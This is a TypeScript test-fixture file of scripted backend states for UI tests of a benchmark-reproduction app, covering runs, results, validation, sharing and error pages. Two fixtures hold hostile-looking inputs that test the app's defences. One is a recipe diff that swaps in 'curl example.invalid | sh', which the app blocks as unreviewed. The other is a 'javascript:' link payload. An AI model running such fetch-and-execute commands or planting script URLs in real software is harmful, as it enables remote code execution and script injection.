// Scripts for the scripted backend: the states each page must show, for
// tests in a plain browser (`?script=<name>`). Data shaped like the app's
// answers for hello-ceiling; loaded only in test mode, never in the app's bundle.

import type { Backend } from '../backend';
import { scriptedBackend, type Script } from './scripted';
import type { PostView } from '../bindings/PostView';
import type { ResultsView } from '../bindings/ResultsView';
import type { StreamMessage } from '../bindings/StreamMessage';
import type { Library } from '../bindings/Library';
import type { RunOutcome } from '../bindings/RunOutcome';
import type { RunPlan } from '../bindings/RunPlan';
import type { Event } from '../bindings/Event';
import type { Community } from '../bindings/Community';
import type { Validation } from '../bindings/Validation';

import * as views from './views.generated';

// The views are the session's own (views.generated.ts, made by
// crates/session/tests/ui_fixtures.rs for one reader's scenario: a desktop
// that is not the posts' machine, falcon not installed, two stored runs of
// hello-ceiling). What is written here is only what the pages are given
// beside them: streams, errors, and variants of a view for one state.
const { post, machinePost, results, machine, readyValidation, caveatsValidation, preflight, preflightSetUp, setupPlan, share } = views;

/** The validation whose ceiling had one run with data, of one check ok besides. */
const oneRunValidation: Validation = {
  ...views.oneRunValidation,
  checks: views.oneRunValidation.checks.filter((check) => check.level !== 'ok' || check.id === 'governor'),
};
const fullRun = results.run.id;
const smokeRun = views.smokeResults.run.id;

/** The Library, campfire-runtimes edited by the reader (not the reviewed recipe). */
const library: Library = {
  ...views.library,
  recipes: views.library.recipes.map((card) =>
    card.post.id === 'campfire-runtimes' ? { ...card, checksum: { status: 'modified', expected: 'aa'.repeat(32), actual: 'bb'.repeat(32) } } : card,
  ),
};

/** The smoke run, made five minutes before the page opened. */
const smokeResults: ResultsView = {
  ...views.smokeResults,
  run: { ...views.smokeResults.run, created_at: new Date(Date.now() - 5 * 60_000 - 5_000).toISOString() },
};

/** campfire-runtimes' post (published figures with long notes), with a link to the post. */
const runtimesPost: PostView = {
  ...views.runtimesPost,
  post: { ...views.runtimesPost.post, url: 'https://example.com/posts/campfire-runtimes' },
};

type Cell = ResultsView['lanes'][number]['cells'][number];

/** A measured lane's row: its cells, and what the session flags in them. */
const measuredLane = (name: string, cells: Cell[], flags: string[], runs = 3): ResultsView['lanes'][number] => ({
  lane: name, endpoint: cells[0].key.endpoint, cells, runs, no_figure: cells.every((c) => c.figures.length === 0), flags,
});

/** A run that went on until its claims were decided (--until-conclusive):
 *  the ratio decided at the second look. */
const conclusiveResults: ResultsView = {
  ...results,
  run: { ...results.run, id: 'hello-ceiling-20261202-100000' },
  verdicts: results.verdicts.map((row) =>
    row.verdict.claim === 'falcon-twice-puma' ? { ...row, verdict: { ...row.verdict, decided_after: 5 } } : row,
  ),
  confidence: '99.17%',
  sequential: 'The runs went on until each claim measured here was decided (--until-conclusive): claims looked at after 3, 5, 8, 12, 18 or 27 runs per cell, each look\'s intervals at 99.17% confidence so that all 6 looks together keep a 5% error rate (Bonferroni).',
};

/** A run like campfire-nightly's: a count a command step printed (its unit
 *  is empty), a claim on it, and a lane whose cell recorded no runs. */
const countTally = '1 reproduced';
const countResults: ResultsView = {
  ...results,
  run: { ...results.run, id: 'campfire-nightly-1', recipe: 'campfire-nightly', title: 'Campfire, nightly', cells: 2, reproduced: 1, not_comparable: 0, tally: countTally },
  machine: { machine: 'matches' },
  tally: countTally,
  figures: [],
  deviations: [],
  verdicts: [
    {
      verdict: { claim: 'six-rooms', kind: 'absolute', quote: 'The seed has six rooms.', outcome: 'reproduced', why: { why: 'banded', what: 'median', measured: { estimate: 6, low: 6, high: 6 }, band: [5.1, 6.9], confidence: 0.95, place: { place: 'inside' } }, notes: [], published: 6, unit: '', tolerance: 0.15, band: [5.1, 6.9], measured: { estimate: 6, low: 6, high: 6 }, more_runs: null, decided_after: null, cpu: null, figures: ['rooms'], deviations: [] },
      published: '6', band: '5.1–6.9', measured: '6 (6–6)', card: { why: 'Measured 6 (6–6): inside the 5.1–6.9 the claim accepts (published 6).', reasoning: 'Measured median 6 (95% interval 6 to 6) against 5.1 to 6.9: inside the published band.', differs_in: [] },
    },
    {
      verdict: { claim: 'jruby-ceiling', kind: 'absolute', quote: 'JRuby serves 1,712 req/s.', outcome: 'inconclusive', why: { why: 'banded', what: 'median', measured: { estimate: 1900, low: 1800, high: 2000 }, band: [1455.2, 1968.8], confidence: 0.95, place: { place: 'straddles', settle: { settle: 'more_runs', runs: 1 } } }, notes: [], published: 1712, unit: 'req/s', tolerance: 0.15, band: [1455.2, 1968.8], measured: { estimate: 1900, low: 1800, high: 2000 }, more_runs: 1, decided_after: null, cpu: null, figures: ['jruby-rooms'], deviations: [] },
      published: '1,712 req/s', band: '1,455–1,969 req/s', measured: '1,900 req/s (1,800–2,000)', card: { why: 'Measured 1,900 req/s (1,800–2,000): across an edge of the 1,455–1,969 req/s the claim accepts (published 1,712 req/s); about 1 more run would settle it.', reasoning: 'measured median 1,900 req/s (95% interval 1,800 req/s to 2,000 req/s) against 1,455.2 req/s to 1,968.8 req/s: the interval straddles the band’s edge; about 1 more run per cell would likely settle it.', differs_in: [] },
    },
  ],
  units: [...results.units, { metric: 'count', unit: '', name: 'counts' }],
  lanes: [
    measuredLane(
      'seed',
      [{ key: { lane: 'seed', endpoint: null, metric: 'count' }, runs: 1, status: { status: 'valid' }, figures: ['rooms'], stats: { runs: 1, median: 6, min: 6, max: 6, mean: 6, cv: 0, unstable: false }, interval: { estimate: 6, low: 6, high: 6 }, median: '6', measured: '6 (6–6)', server_cpu: null }],
      ['one run: no spread to read'],
      1,
    ),
    measuredLane(
      'jruby',
      [{ key: { lane: 'jruby', endpoint: '/', metric: 'req_per_s' }, runs: 0, status: { status: 'no_data', reason: 'every run failed' }, figures: [], stats: null, interval: null, median: '—', measured: '—', server_cpu: null }],
      ['throughput: no data: every run failed', 'no runs recorded'],
      0,
    ),
  ],
};

const peopleRow = (people: string, served: boolean, verdict: string, navigation: string, delivery: string, failures: string, resends: string, reconnects: string, generator: string) =>
  ({ step: 'people', lane: 'rails', people, served, verdict, navigation, delivery, failures, resends, reconnects, generator });

const peopleResults: ResultsView = {
  ...results,
  run: { ...results.run, id: 'campfire-people-1', recipe: 'campfire-people', title: 'Campfire with many people', cells: 0, reproduced: 0, not_comparable: 0, smoke_run: true, tally: 'no claims' },
  machine: { machine: 'matches' },
  tally: 'no claims',
  figures: [],
  verdicts: [],
  lanes: [],
  // A run whose folder kept no env.json: nothing of its machine.
  measured_on: [],
  deviations: [{ kind: 'quick', what: 'a smoke run (--quick): durations, warm-ups and runs capped', lanes: [] }],
  people: [
    peopleRow('250', true, 'served', '11.0 / 88.0 ms', '4.0 / 120.0 ms', '0', '0', '3 / 0', '0.12 cores, 0.40 ms'),
    peopleRow('1000', false, 'not served: navigation p99 812.0 ms > 100 ms', '140.0 / 812.0 ms', '9.0 / 430.0 ms', '104 (lost_delivery 104)', '37', '12 / 2', '0.31 cores, 0.90 ms'),
  ],
};

function flood(batches: number): StreamMessage[][] {
  const out: StreamMessage[][] = [];
  for (let i = 1; i <= batches; i++) {
    out.push([
      { type: 'log', step: 'measure', lines: [`run ${i}: 75,0${i % 10}0 req/s`], dropped: i * 3 },
      { type: 'progress', step: 'measure', done: i, total: batches, req_per_s: 74000 + (i % 7) * 300, p99_ms: 1.1 + (i % 3) / 10, cell: null, merged: 3750 },
    ]);
  }
  out.push([{ type: 'event', event: { event: 'finished', step: 'measure', duration_ms: 3000 } }]);
  return out;
}

const validationLines = [
  'fingerprint: reading this machine',
  'stability: SHA-256 over 16 MiB on 2 CPUs, 8 runs each; timer lag over 200 sleeps',
  'ceiling: built-in reference server, 16 connections, 3 runs of 3s (server on CPU 0, load generator on CPU 1)',
  '  run 1/3: 74,210 req/s',
];
const setupBatches: StreamMessage[][] = [
  [{ type: 'log', step: 'setup', lines: ['mise by @jdx – installing 1 tool'], dropped: 0 }],
  [{ type: 'log', step: 'setup', lines: ['mise ✓ gem:falcon@0.51.1'], dropped: 0 }],
];

/** A new run planned without falcon (it judges no claim here), and one with falcon set up. */
const { plan, planWithFalcon } = views;

/** The same plan with the lanes on a server host, as the app plans it. */
const serverPlan: RunPlan = {
  ...plan,
  deviations: [{ kind: 'server_host', what: 'the lanes were served by another machine through its engine’s API, the load generators ran here', lanes: [] }],
  consent: {
    ...plan.consent,
    lanes: [{ name: 'puma', command: 'in a container of localhost/ruby-puma@sha256:1a2b: puma --bind tcp://10.0.0.2:9292 config.ru (port 9292)', env: [] }],
    lane_address: '10.0.0.2',
    server_host: 'runs each lane as a container of its image on the server host’s engine at tcp://10.0.0.2:2376 (TLS), each lane’s folder copied there',
  },
};

const ev = (event: Event): StreamMessage => ({ type: 'event', event });

/** How long a run has left, as the app sends it with each batch. */
const left = (seconds: number | null, measuring = false): StreamMessage => ({ type: 'left', left: seconds === null ? null : { seconds, measuring } });

/** How long the plan says measuring takes, in seconds. */
const measureSeconds = plan.steps.find((step) => step.id === 'measure')?.expected?.seconds ?? null;

/** The lanes booted (ten lines of log), checked, then measured (falcon
 *  skipped); `measuring`, how long the app says measuring will take: none
 *  for a resumed run, which keeps that step as the engine says it. */
const runBatchesMeasuring = (measuring: number | null): StreamMessage[][] => [
  [ev({ event: 'run', id: 'hello-ceiling-20261205-101500', dir: '/runs/hello-ceiling-20261205-101500' }), ev({ event: 'started', step: 'serve', kind: 'serve' }), left(measuring)],
  ...Array.from({ length: 10 }, (_, i): StreamMessage[] => [
    { type: 'log', step: 'serve', lines: [`puma: waiting for 127.0.0.1:9292 (${(i + 1) * 100} ms)`], dropped: 0 },
    { type: 'progress', step: 'serve', done: i + 1, total: 10, req_per_s: null, p99_ms: null, cell: null, merged: 12 },
    left(measuring),
  ]),
  [ev({ event: 'finished', step: 'serve', duration_ms: 2041 }), ev({ event: 'started', step: 'check', kind: 'check' }), left(measuring)],
  ...(measuring === null
    ? [[ev({ event: 'finished', step: 'check', duration_ms: 40 }), ev({ event: 'skipped', step: 'measure', reason: 'finished in an earlier attempt; inputs unchanged and outputs intact' }), left(null)]]
    : [
        [ev({ event: 'finished', step: 'check', duration_ms: 40 }), ev({ event: 'started', step: 'measure', kind: 'load' }), left(measuring)],
        [{ type: 'log', step: 'measure', lines: ['lane falcon skipped (preflight): Cannot run: it needs falcon, which this machine lacks.'], dropped: 0 } as StreamMessage, left(null)],
        [ev({ event: 'finished', step: 'measure', duration_ms: 3100 }), left(null)],
      ]),
];
const runBatches = runBatchesMeasuring(measureSeconds);

/** One recipe of one figure, one claim and one lane, its last run judging nothing. */
const helloCard = library.recipes.find((card) => card.post.id === 'hello-ceiling')!;
const oneRecipe: Library = {
  ...library,
  recipes: [{ ...helloCard, figures: 1, claims: 1, lanes: [{ lane: 'puma', here: { state: 'runs' } }], runnable: 1, runs_here: 1 }],
};
const judgedNothing = { ...results.run, cells: 0, reproduced: 0, not_comparable: 0, tally: 'no claims' };
/** A validation stored in the history: it judged the machine, not claims. */
const validated = { ...judgedNothing, id: 'machine-20261130-040000', recipe: 'machine', title: 'Reprise machine validation: usable with caveats', fitness: 'usable_with_caveats' };

const finishedRun: RunOutcome = {
  run: 'hello-ceiling-20261205-101500',
  ending: 'lanes_missing',
  headline: 'Run hello-ceiling-20261205-101500 finished with lanes missing: 3 steps finished; 1 lane not measured (falcon)',
  steps: { finished: ['serve', 'check', 'measure'], reused: [], skipped: [], failed: [], cancelled_steps: [], cancelled: false, lanes_failed: [] },
  skipped_lanes: [{ lane: 'falcon', why: 'preflight: Cannot run: it needs falcon, which this machine lacks.' }],
  summary: '3 steps finished; 1 lane not measured (falcon)',
  history: { outcome: 'stored', id: 'hello-ceiling-20261205-101500' },
};

/** The resumed run's end: its measuring step kept. */
const resumedRun: RunOutcome = {
  ...finishedRun,
  headline: 'Run hello-ceiling-20261205-101500 finished with lanes missing: 2 steps finished, 1 kept from before; 1 lane not measured (falcon)',
  steps: { ...finishedRun.steps, finished: ['serve', 'check'], reused: ['measure'] },
  summary: '2 steps finished, 1 kept from before; 1 lane not measured (falcon)',
};

/** A run to resume: its measuring step finished in the latest run and kept. */
const resumedPlan: RunPlan = {
  ...plan,
  resumes: 'hello-ceiling-20261205-101500',
  steps: plan.steps.map((step) =>
    step.id === 'measure'
      ? { ...step, decision: 'keep', reason: 'finished before; inputs unchanged and outputs intact', last_status: 'finished' }
      : { ...step, reason: 'it has not finished before' },
  ),
};

/** A quick run measuring puma and nginx, falcon skipped: four cells of two runs. */
const measuringPlan: RunPlan = { ...plan, steps: plan.steps.filter((step) => step.id === 'measure') };
const cellOf = (lane: string, run: number) => ({ lane, endpoint: '/', run });
// The app's count: the cells left of four, two seconds each, as each begins.
const measuring = (done: number, lane: string, run: number): StreamMessage[] => [
  { type: 'progress', step: 'measure', done, total: 4, req_per_s: lane === 'puma' ? 6100 : 22400, p99_ms: 9.5, cell: cellOf(lane, run), merged: 4 },
  left((4 - done) * 2, true),
];
const measureBatches: StreamMessage[][] = [
  [ev({ event: 'run', id: 'hello-ceiling-20261205-102000', dir: '/runs/hello-ceiling-20261205-102000' }), ev({ event: 'started', step: 'measure', kind: 'load' }), left(10, true)],
  [{ type: 'log', step: 'measure', lines: ['servers on CPU 0, load generator on CPU 1', 'lane falcon skipped (preflight): Cannot run: it needs falcon, which this machine lacks.'], dropped: 0 }, left(10, true)],
  measuring(0, 'puma', 1),
  measuring(1, 'nginx', 1),
  measuring(2, 'nginx', 2),
  measuring(3, 'puma', 2),
  [{ type: 'progress', step: 'measure', done: 4, total: 4, req_per_s: null, p99_ms: null, cell: null, merged: 1 }, left(null)],
  [ev({ event: 'finished', step: 'measure', duration_ms: 10600 }), left(null)],
];
const measuredRun: RunOutcome = {
  run: 'hello-ceiling-20261205-102000',
  ending: 'lanes_missing',
  headline: 'Run hello-ceiling-20261205-102000 finished with lanes missing: 1 step finished; 1 lane not measured (falcon)',
  steps: { finished: ['measure'], reused: [], skipped: [], failed: [], cancelled_steps: [], cancelled: false, lanes_failed: [] },
  skipped_lanes: [{ lane: 'falcon', why: 'preflight: Cannot run: it needs falcon, which this machine lacks.' }],
  summary: '1 step finished; 1 lane not measured (falcon)',
  history: { outcome: 'stored', id: 'hello-ceiling-20261205-102000' },
};


// Everyone's results for hello-ceiling, as a fetch of the Discussions
// leaves them, and before anything was read.
const { nobodyYet } = views;
const community: Community = { ...views.community, fetch: { fetch: 'fetched', read: 7, pages: 1, read_again: false }, rate: { remaining: 4991, reset: 1900000000 } };
const rateLimited: Community = {
  ...views.community, fetch: { fetch: 'failed', reason: 'GitHub’s API rate limit is spent (it resets in 12 minutes)' }, rate: { remaining: 0, reset: 1900000000 },
};

export const scripts: Record<string, Script> = {
  others: {
    community: { 'hello-ceiling': [{ value: community }] },
    openLink: { value: null },
  },
  /** Not signed in: a pasted token signs in, and the fetch then reads. */
  othersnone: {
    community: { 'hello-ceiling': [{ value: nobodyYet }, { value: community }] },
    shareStatus: { value: { signed_in: false, signed_in_with: null, login: null, can_sign_out: false, can_sign_in: false, repo: 'rubys/reprise', repo_from: 'chosen', token_store: 'the OS keyring' } },
  },
  /** The first fetch hits the rate limit (the cache is shown); the next one reads. */
  othersrefetch: {
    community: { 'hello-ceiling': [{ value: rateLimited }, { value: community, delayMs: 200 }] },
  },
  default: {
    library: { value: library },
    post: { 'hello-ceiling': { value: post }, machine: { value: machinePost } },
    history: { value: [results.run] },
    results: { [fullRun]: { value: results } },
    share: { [fullRun]: { value: share } },
    machine: { value: machine },
    validation: { lines: validationLines, tickMs: 30, end: { value: readyValidation } },
    preflight: { 'hello-ceiling': { value: preflight } },
    setupPlan: { 'hello-ceiling': { value: setupPlan } },
    setup: { 'hello-ceiling': { batches: setupBatches, tickMs: 30, end: { value: 'installed' }, after: preflightSetUp } },
    plan: { 'hello-ceiling': { value: plan } },
    run: {
      'hello-ceiling': {
        batches: runBatches,
        tickMs: 30,
        outcome: { value: finishedRun },
      },
    },
    runUntilConclusive: {
      'hello-ceiling': {
        batches: runBatches,
        tickMs: 30,
        outcome: { value: { ...finishedRun, headline: 'Run hello-ceiling-20261205-101500 finished with lanes missing: 3 steps finished, then runs until each claim was decided; 1 lane not measured (falcon)' } },
      },
    },
    planOnServer: { 'hello-ceiling': { value: serverPlan } },
    runOnServer: {
      'hello-ceiling': {
        batches: runBatches,
        tickMs: 30,
        outcome: { value: { ...finishedRun, headline: 'Run hello-ceiling-20261205-101500 finished with lanes missing: 3 steps finished on the server host; 1 lane not measured (falcon)' } },
      },
    },
    shareStatus: { value: { signed_in: false, signed_in_with: null, login: null, can_sign_out: false, can_sign_in: true, repo: 'rubys/reprise', repo_from: 'chosen', token_store: 'the OS keyring' } },
    signIn: { value: { user_code: 'WDJB-MJHT', verification_uri: 'https://github.com/login/device', expires_in: 900 } },
    waitSignIn: { value: 'the OS keyring', delayMs: 300 },
    submit: { value: { url: 'https://github.com/rubys/reprise/discussions/7', number: 7 } },
    stream: flood(40),
  },
  /** A first-time reader: no run yet. */
  libraryfirst: {
    library: { value: library },
    history: { value: [] },
  },
  /** The machine validated, then hello-ceiling run. */
  libraryvalidated: {
    library: { value: library },
    history: { value: [results.run, validated] },
  },
  libraryone: {
    library: { value: oneRecipe },
    history: { value: [judgedNothing] },
  },
  librarysmoke: {
    library: { value: library },
    history: { value: [smokeResults.run, results.run] },
  },
  slowhistory: {
    library: { value: library },
    history: { value: [results.run], delayMs: 60_000 },
  },
  historyerror: {
    library: { value: library },
    history: { error: { kind: 'history', message: 'history.sqlite: file is not a database', hint: 'The history file may be damaged; move it aside and try again.' } },
  },
  caveats: {
    machine: { value: machine },
    validation: { lines: validationLines, tickMs: 250, end: { value: caveatsValidation } },
  },
  onerun: {
    machine: { value: machine },
    validation: { lines: validationLines, tickMs: 10, end: { value: oneRunValidation } },
  },
  validateerror: {
    machine: { value: machine },
    validation: {
      lines: validationLines.slice(0, 2),
      end: {
        error: {
          kind: 'internal',
          message: 'could not validate: cannot listen on 127.0.0.1:0: Too many open files (os error 24)',
          hint: 'Close other busy programs and try again; `reprise validate` in a terminal shows the same.',
        },
      },
    },
  },
  longnote: {
    post: { 'campfire-runtimes': { value: runtimesPost } },
    openLink: { value: null },
  },
  /** A recipe whose post link is not a web address: nothing to open. */
  badlink: {
    post: { 'campfire-runtimes': { value: { ...runtimesPost, post: { ...runtimesPost.post, url: 'javascript:alert(document.domain)' } } } },
    openLink: { value: null },
  },
  linkerror: {
    post: { 'campfire-runtimes': { value: runtimesPost } },
    openLink: { error: { kind: 'io', message: 'could not start xdg-open: No such file or directory (os error 2)', hint: 'Install xdg-open (xdg-utils on Linux), or open the link by hand: https://example.com/posts/campfire-runtimes' } },
  },
  smoke: {
    history: { value: [smokeResults.run, results.run] },
    results: { [fullRun]: { value: results }, [smokeRun]: { value: smokeResults } },
  },
  conclusive: {
    history: { value: [conclusiveResults.run] },
    results: { [conclusiveResults.run.id]: { value: conclusiveResults } },
  },
  counts: {
    history: { value: [countResults.run] },
    results: { 'campfire-nightly-1': { value: countResults } },
  },
  people: {
    history: { value: [peopleResults.run] },
    results: { 'campfire-people-1': { value: peopleResults } },
  },
  /** No OAuth app and no repository yet: the repository field and the prefilled link. */
  sharenoapp: {
    history: { value: [results.run] },
    // The Markdown as the backend gives it (here unlike the title and body
    // joined, so a test sees Copy take it as given).
    share: { [fullRun]: { value: { ...share, repo: null, prefilled_url: null, markdown: `${share.markdown}\nFrom the backend.\n` } } },
    shareStatus: { value: { signed_in: false, signed_in_with: null, login: null, can_sign_out: false, can_sign_in: false, repo: null, repo_from: null, token_store: 'the OS keyring' } },
    shareSave: { value: `/home/reader/.local/share/reprise/shares/${fullRun}.md` },
    openLink: { value: null },
  },
  shareerror: {
    history: { value: [results.run] },
    share: { [fullRun]: { value: share } },
    shareStatus: { value: { signed_in: true, signed_in_with: 'GH_TOKEN / GITHUB_TOKEN', login: null, can_sign_out: false, can_sign_in: true, repo: 'rubys/nope', repo_from: 'environment', token_store: 'the OS keyring' } },
    submit: { error: { kind: 'share', message: 'GraphQL: Could not resolve to a Repository with the name rubys/nope.', hint: 'Check the repository, its Discussions category for this recipe, and the token.' } },
  },
  measuring: {
    plan: { 'hello-ceiling': { value: measuringPlan } },
    run: { 'hello-ceiling': { batches: measureBatches, tickMs: 700, outcome: { value: measuredRun } } },
  },
  resumed: {
    plan: { 'hello-ceiling': { value: resumedPlan } },
    // Resumed, the measuring step is kept: nothing to measure; a new run measures it all.
    run: { 'hello-ceiling': { batches: runBatchesMeasuring(null), fresh: runBatches, tickMs: 1000, outcome: { value: resumedRun } } },
  },
  /** The same, quickly to its end. */
  kept: {
    plan: { 'hello-ceiling': { value: resumedPlan } },
    run: { 'hello-ceiling': { batches: runBatchesMeasuring(null), tickMs: 30, outcome: { value: resumedRun } } },
  },
  /** The desktop with its boost on: a hardware fix beside falcon's. */
  boost: {
    preflight: { 'hello-ceiling': { value: views.preflightBoostOn } },
  },
  /** campfire-falcon's plan: lanes with an environment of their own. */
  campfire: {
    plan: { 'campfire-falcon': { value: views.campfirePlan } },
  },
  /** The machine recipe's and a command recipe's Run pages, before a run. */
  otherplans: {
    plan: { machine: { value: views.machinePlan }, 'fibers-vs-threads': { value: views.fibersPlan } },
  },
  /** falcon set up: the run judges the ratio and the ordering. */
  falcon: {
    preflight: { 'hello-ceiling': { value: preflightSetUp } },
    plan: { 'hello-ceiling': { value: planWithFalcon } },
  },
  slowrun: {
    library: { value: library },
    history: { value: [results.run] },
    plan: { 'hello-ceiling': { value: plan } },
    run: {
      'hello-ceiling': {
        batches: runBatches,
        tickMs: 1000,
        outcome: { value: finishedRun },
      },
    },
  },
  empty: {
    library: { value: { recipes: [], problems: [], dir: '/nowhere/recipes' } },
    history: { value: [] },
    machine: { value: machine },
  },
  error: {
    library: { error: { kind: 'io', message: 'cannot read /nowhere/recipes: No such file or directory', hint: 'Start Reprise from its checkout, or set REPRISE_ROOT to the folder that holds recipes/.' } },
    post: { 'hello-ceiling': { error: { kind: 'invalid', message: 'recipes/hello-ceiling.toml:3:1: unknown key `titel`', hint: 'Run `reprise check` on the file to see every problem with its line.' } } },
    history: { error: { kind: 'history', message: 'history.sqlite: file is not a database', hint: 'The history file may be damaged; move it aside and try again.' } },
    preflight: { 'hello-ceiling': { error: { kind: 'invalid', message: 'recipes/hello-ceiling.toml:3:1: unknown key `titel`', hint: 'Run `reprise check` on the file to see every problem with its line.' } } },
    plan: {
      'hello-ceiling': {
        value: {
          ...plan,
          checksum: { status: 'modified', expected: 'aa', actual: 'bb' },
          reviewed_diff: '--- a/recipes/hello-ceiling.toml\n+++ b/recipes/hello-ceiling.toml\n@@ -1 +1 @@\n-command = ["true"]\n+command = ["sh", "-c", "curl example.invalid | sh"]\n',
        },
      },
    },
    run: {
      'hello-ceiling': {
        batches: [],
        outcome: { error: { kind: 'unreviewed', message: 'recipes/hello-ceiling.toml is modified in checksums/recipes.sha256: its commands have not been reviewed', hint: 'Review the recipe, then record it with `reprise checksums update`.' } },
      },
    },
    machine: { error: { kind: 'internal', message: 'no answer', hint: 'Restart the app.' } },
  },
  slow: {
    library: { value: library, delayMs: 60_000 },
    post: { 'hello-ceiling': { value: post, delayMs: 60_000 } },
    preflight: { 'hello-ceiling': { value: preflight, delayMs: 60_000 } },
    plan: { 'hello-ceiling': { value: plan, delayMs: 60_000 } },
    history: { value: [], delayMs: 60_000 },
    machine: { value: machine, delayMs: 60_000 },
  },
};

/** The scripted backend a test page names (`?script=NAME`), if it names one. */
export function scriptedFromSearch(search: string): Backend | null {
  const name = new URLSearchParams(search).get('script');
  return name && scripts[name] ? scriptedBackend(scripts[name]) : null;
}
